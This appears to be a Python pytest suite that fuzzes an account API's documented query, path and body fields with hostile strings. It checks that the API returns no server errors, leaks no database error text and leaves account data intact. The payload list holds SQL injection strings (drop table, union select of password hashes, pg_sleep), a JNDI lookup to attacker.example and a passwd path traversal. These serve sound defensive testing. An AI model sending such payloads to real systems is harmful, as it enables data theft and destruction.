"""Hostile text in every string a client may send, found in the OpenAPI document.

It must come out as text: refused or searched for, never part of a statement.
"""

import json
from urllib.parse import quote

import pytest
from account_support import account_service
from alert_support import alert_service
from openapi_support import FUNCTIONS, NOBODY, is_text, operations
from sqlalchemy import create_engine, text
from sqlalchemy.pool import NullPool

from quant.vocabulary import Role
from quant_http.openapi import merged
from quant_http.routes import ROUTES

HOSTILE = [
    "' or '1'='1",
    "' or 1=1 --",
    "'; drop table accounts; --",
    "') union select email, password_hash from accounts --",
    "1' and (select pg_sleep(3)) is not null --",
    "x'||(select current_user)||'",
    "\\'; select 1; --",
    '" or ""="',
    "$$; select 1; $$",
    ":id",
    "%(id)s",
    "%s%s%s",
    "{0.__class__}",
    "${jndi:ldap://attacker.example/a}",
    "%' or '%'='",
    "_%_",
    "\u02bc or 1=1 --",
    "\x00' or 1=1 --",
    "\ud7ff\U0001f4a3",
    "../../../etc/passwd",
]
# What an answer says when a statement was broken by its input.
TELLTALE = ("syntax error", "unterminated", "pg8000", "sqlalchemy", "traceback", "psycopg")


@pytest.fixture(scope="module")
def accounts(api, database, disclosures):
    with account_service(api, database) as service, alert_service():
        yield service


@pytest.fixture(scope="module")
def documented(accounts):
    return list(operations(merged(FUNCTIONS)))


@pytest.fixture(scope="module")
def admin(accounts):
    return accounts.person(role=Role.ADMIN)


@pytest.fixture(scope="module")
def owner(database):
    return create_engine(database.owner_url, poolclass=NullPool)


@pytest.fixture(scope="module")
def untouched(accounts, admin, owner):
    """A digest of what no hostile text may change."""
    victim = accounts.person()

    def digest():
        with owner.connect() as connection:
            tables = connection.scalars(
                text("select relname from pg_class where relkind in ('r', 'p') order by relname")
            ).all()
            rows = connection.execute(
                text(
                    "select id, email, password_hash, tier, role, disabled_at from accounts"
                    " where id in (:victim, :admin) order by id"
                ),
                {"victim": victim.id, "admin": admin.id},
            ).all()
        return tables, rows

    return digest


def send(accounts, operation, query=None, body=None, path=None):
    """The answer to a caller with every scope; each is a new one, so that no limit intervenes."""
    event = {"address": accounts.address()}
    headers = {}
    if body is not None:
        event["body"] = json.dumps(body).encode()
        headers["Content-Type"] = "application/json"
    target = path or concrete(operation.path, operation.names("path"))
    return accounts.api.send(operation.method, target, query, headers, **event)


def concrete(path, names, hostile=None):
    for name in names:
        path = path.replace(f"{{{name}}}", NOBODY if hostile is None else hostile)
    return path


def check(answer, payload):
    assert answer.status < 500, (payload, answer.body)
    said = answer.body.decode("utf-8", "replace").lower()
    assert not [word for word in TELLTALE if word in said], (payload, said)


@pytest.mark.parametrize("payload", HOSTILE, ids=ascii)
def test_query_parameters(accounts, documented, untouched, payload):
    before, seen = untouched(), 0
    for operation in documented:
        for parameter in operation.parameters:
            if parameter["in"] == "query" and is_text(parameter["schema"]):
                answer = send(accounts, operation, {parameter["name"]: payload})
                check(answer, payload)
                # Whatever it was compared with, it equals nothing that is there.
                if answer.status == 200:
                    assert answer.json["data"] == [], (operation, parameter["name"])
                seen += 1
    assert seen > 10
    assert untouched() == before


@pytest.mark.parametrize("payload", HOSTILE, ids=ascii)
def test_path_parameters(accounts, documented, untouched, payload):
    before, seen = untouched(), 0
    for operation in documented:
        names = operation.names("path")
        if names:
            path = concrete(operation.path, names, quote(payload, safe=""))
            answer = send(accounts, operation, path=path, body=operation.example())
            check(answer, payload)
            assert answer.status in {404, 422}, (operation, answer.body)
            seen += 1
    assert seen >= 5
    assert untouched() == before


@pytest.mark.parametrize("payload", HOSTILE, ids=ascii)
def test_fields_of_bodies(accounts, documented, untouched, payload):
    before, seen = untouched(), 0
    for operation in documented:
        if operation.body is None:
            continue
        for name, field in operation.body["properties"].items():
            if is_text(field):
                answer = send(accounts, operation, body={**operation.example(), name: payload})
                check(answer, payload)
                seen += 1
            answer = send(accounts, operation, body={**operation.example(), payload: 1})
            check(answer, payload)
            assert answer.status == 422, (operation, answer.body)
    assert seen > 5
    assert untouched() == before


@pytest.mark.parametrize("payload", HOSTILE, ids=ascii)
def test_unknown_query_parameters(accounts, documented, payload):
    stored = {(route.method, route.path) for route in ROUTES if route.stores}
    for operation in documented:
        if operation.method == "GET" and (operation.method, operation.path) in stored:
            check(send(accounts, operation, {payload: payload}), payload)


@pytest.mark.parametrize("value", [{"$ne": ""}, ["a", "b"], True, 0, None, 1e308], ids=str)
def test_values_of_other_types_are_refused(accounts, documented, untouched, value):
    before = untouched()
    for operation in documented:
        if operation.body is None:
            continue
        for name, field in operation.body["properties"].items():
            if field.get("type") == "string":
                answer = send(accounts, operation, body={**operation.example(), name: value})
                assert answer.status == 422, (operation, name, answer.body)
    assert untouched() == before
